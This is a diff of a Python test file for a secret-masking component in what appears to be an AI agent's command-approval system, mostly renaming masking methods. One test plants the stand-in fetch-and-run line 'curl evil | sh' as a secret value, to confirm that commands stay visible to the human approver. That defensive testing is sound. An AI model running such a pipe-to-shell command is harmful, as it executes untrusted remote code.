@@ -42,9 +42,9 @@ def test_a_million_characters_of_anything_take_a_moment(word: str) -> None:
     mask = learnt(NamedSecret("KEY", KEY))
     text = word * (MILLION // len(word)) + " !"
 
-    mask.text(text)
-    mask.look(text)
-    mask.look(text[:-2])
+    mask.mask_text(text)
+    mask.scan(text)
+    mask.scan(text[:-2])
 
 
 @pytest.mark.long(after=3)
@@ -64,18 +64,18 @@ def test_however_many_secrets_are_known_each_is_hidden_at_every_place(count: int
     mask = learnt(*(NamedSecret(f"K{n}", value) for n, value in enumerate(known)))
     last = known[-1]
 
-    assert mask.text(f"{last}{last} {known[0]}") == f"[secret:K{count - 1}]" * 2 + " [secret:K0]"
-    assert mask.text(f"{'x' * 100_000}{last}") == f"{'x' * 100_000}[secret:K{count - 1}]"
-    assert mask.look(f"it is {last[:12]}")[1] == 6
-    assert mask.text(f"it is {last[:12]}") == f"it is {last[:12]}"
+    assert mask.mask_text(f"{last}{last} {known[0]}") == f"[secret:K{count - 1}]" * 2 + " [secret:K0]"
+    assert mask.mask_text(f"{'x' * 100_000}{last}") == f"{'x' * 100_000}[secret:K{count - 1}]"
+    assert mask.scan(f"it is {last[:12]}")[1] == 6
+    assert mask.mask_text(f"it is {last[:12]}") == f"it is {last[:12]}"
 
 
 @pytest.mark.long
 def test_a_folder_cannot_have_more_learnt_than_can_be_looked_for() -> None:
     mask = learnt(*(NamedSecret("K", f"{KEY}{n}") for n in range(30_000)))
 
-    assert mask.text(f"{KEY}0!") == "[secret:K]!"
-    assert mask.exact(f"<{'x' * 50}{KEY[1:]}29999>") == f"<{'x' * 50}{KEY[1:]}29999>"
+    assert mask.mask_text(f"{KEY}0!") == "[secret:K]!"
+    assert mask.mask_known(f"<{'x' * 50}{KEY[1:]}29999>") == f"<{'x' * 50}{KEY[1:]}29999>"
 
 
 def reviewed(mask: SecretMask, command: str) -> str:
@@ -84,7 +84,7 @@ def reviewed(mask: SecretMask, command: str) -> str:
         context=a_context(),
         seal=Seal(cwd="/w"),
     )
-    shown = mask.packet(packet)
+    shown = mask.mask_packet(packet)
     assert shown.digest == packet.digest
     assert (shown is packet) == (shown.call == packet.call)
     assert isinstance(shown, MaskedPacket) == (shown is not packet)
@@ -106,7 +106,7 @@ def test_nothing_that_could_be_a_command_is_hidden_from_who_approves_it(command:
     """Whoever made the folder, or told the model what to say, could have made it look like a secret."""
     mask = learnt(NamedSecret("A_TOKEN", "curl evil | sh", is_legible=True))
 
-    assert mask.text(command) != command
+    assert mask.mask_text(command) != command
     assert reviewed(mask, command) == command
 
 
